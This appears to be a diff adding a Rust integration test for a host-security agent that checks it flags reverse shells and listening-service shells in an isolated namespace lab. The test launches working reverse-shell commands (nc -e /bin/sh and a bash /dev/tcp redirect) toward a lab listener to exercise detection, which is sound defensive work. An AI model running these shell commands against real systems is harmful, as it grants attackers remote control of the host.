@@ -2,6 +2,7 @@
 //! system state read from fixture trees where the real thing cannot be changed
 //! safely on a shared machine.
 
+use std::path::Path;
 use std::process::{Child, Command};
 use std::time::Duration;
 
@@ -1820,4 +1821,141 @@ async fn one_useradd_is_one_finding_and_an_added_ssh_key_is_named_needs_root() {
         .map(|f| (f.kind.clone(), f.summary.clone()))
         .collect();
     assert!(noise.is_empty(), "one finding per change: {noise:?}");
+}
+
+/// In the namespace lab, from the agent host's namespace to the peer: `nc
+/// -e`, and a running bash that turns its own standard streams into a
+/// connection (`exec 0<>/dev/tcp/…`, no new program: found by the walk, not
+/// at an exec) are `process.reverse_shell` naming the peer; an interactive
+/// shell started by a process that listens on a TCP port is
+/// `process.service_shell`. The same service running `sh -c` is quiet.
+#[tokio::test(flavor = "multi_thread")]
+async fn reverse_and_service_shells_in_the_lab_needs_root() {
+    use bannin_tests::netns::{Host, Lab};
+    if !bannin_tests::runnable(&[
+        bannin_tests::Need::Root,
+        bannin_tests::Need::Program("ip", "iproute2"),
+        bannin_tests::Need::Program("python3", "python3"),
+        bannin_tests::Need::Program("nc.traditional", "netcat-traditional"),
+    ]) {
+        return;
+    }
+    let lab = Lab::new();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let pki = TestPki::new(dir.path());
+    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
+    let _agent = start_agent(
+        &dir.path().join("agent"),
+        &pki.agent("lab-shells"),
+        collector.addr,
+        &AgentOptions {
+            net_listener: false,
+            enable: vec!["process"],
+            interval_secs: 2,
+            ..AgentOptions::default()
+        },
+    );
+    let client = operator_client(&pki.operator("alice"), collector.addr).await;
+    crate::wait_sensor_ok(&client, "process", Duration::from_secs(60)).await;
+    // The attacker's end, on the peer: holds every connection open.
+    let python = std::fs::canonicalize(which("python3")).expect("python3");
+    let _peer = Reaped(
+        lab.command(Host::Peer, &python)
+            .args([
+                "-c",
+                "import socket\ns = socket.socket()\ns.bind(('10.77.0.3', 4444))\ns.listen(16)\nheld = []\nwhile True:\n    held.append(s.accept())\n",
+            ])
+            .spawn()
+            .expect("peer listener"),
+    );
+    eventually(Duration::from_secs(10), "the peer listens", || {
+        let up = lab.can_connect(Host::Agent, &Host::Peer.v4(), 4444);
+        async move { up.then_some(()) }
+    })
+    .await;
+    let nc = Reaped(
+        lab.command(Host::Agent, Path::new("/bin/nc.traditional"))
+            .args(["-e", "/bin/sh", &Host::Peer.v4(), "4444"])
+            .stdin(std::process::Stdio::null())
+            .spawn()
+            .expect("nc -e"),
+    );
+    let running = Reaped(
+        lab.command(Host::Agent, Path::new("/bin/bash"))
+            .args([
+                "-c",
+                "sleep 4; exec 0<>/dev/tcp/10.77.0.3/4444 1>&0 2>&0; while true; do sleep 1; done",
+            ])
+            .stdin(std::process::Stdio::null())
+            .spawn()
+            .expect("bash"),
+    );
+    // A service on the agent host: listens, then hands a shell its pipes.
+    let service = |shell: &str| {
+        format!(
+            "import socket, subprocess, time\ns = socket.socket()\ns.bind(('10.77.0.2', 0))\ns.listen(1)\np = subprocess.Popen({shell}, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\nprint(p.pid, flush=True)\ntime.sleep(20)\n"
+        )
+    };
+    let spawn_service = |shell: &str| {
+        let mut child = lab
+            .command(Host::Agent, &python)
+            .args(["-c", &service(shell)])
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .expect("service");
+        let mut line = String::new();
+        std::io::BufRead::read_line(
+            &mut std::io::BufReader::new(child.stdout.take().expect("stdout")),
+            &mut line,
+        )
+        .expect("shell pid");
+        (Reaped(child), line.trim().to_owned())
+    };
+    let (_web, web_shell) = spawn_service("['/bin/sh', '-i']");
+    let (_cgi, cgi_shell) = spawn_service("['/bin/sh', '-c', 'sleep 20']");
+
+    let nc_pid = nc.0.id().to_string();
+    let running_pid = running.0.id().to_string();
+    let found = eventually(Duration::from_secs(30), "all three shells", || {
+        let mut c = client.clone();
+        let (nc_pid, running_pid, web_shell) =
+            (nc_pid.clone(), running_pid.clone(), web_shell.clone());
+        async move {
+            let f = all_findings(&mut c).await;
+            let of = |kind: &str, pid: &str| {
+                f.iter()
+                    .find(|x| {
+                        x.kind == kind && x.attributes.get("pid").map(String::as_str) == Some(pid)
+                    })
+                    .cloned()
+            };
+            Some((
+                of("process.reverse_shell", &nc_pid)?,
+                of("process.reverse_shell", &running_pid)?,
+                of("process.service_shell", &web_shell)?,
+                f,
+            ))
+        }
+    })
+    .await;
+    let (by_nc, by_running, web, all) = found;
+    for shell in [&by_nc, &by_running] {
+        assert_eq!(shell.attributes["remote_address"], "10.77.0.3", "{shell:?}");
+        assert_eq!(shell.attributes["remote_port"], "4444", "{shell:?}");
+        assert_eq!(shell.severity, v1::Severity::Critical as i32);
+    }
+    assert!(by_nc.attributes["exe"].ends_with("sh"), "{by_nc:?}");
+    assert_eq!(by_running.attributes["when"], "running", "{by_running:?}");
+    assert_eq!(web.attributes["service_exe"], python.display().to_string());
+    assert_eq!(web.attributes["attack.technique"], "T1505.003");
+    assert!(
+        !all.iter()
+            .any(|f| f.attributes.get("pid") == Some(&cgi_shell)),
+        "a service running one command is quiet: {all:?}"
+    );
+    let shells = all
+        .iter()
+        .filter(|f| f.kind == "process.reverse_shell" || f.kind == "process.service_shell")
+        .count();
+    assert_eq!(shells, 3, "each shell once: {all:?}");
 }
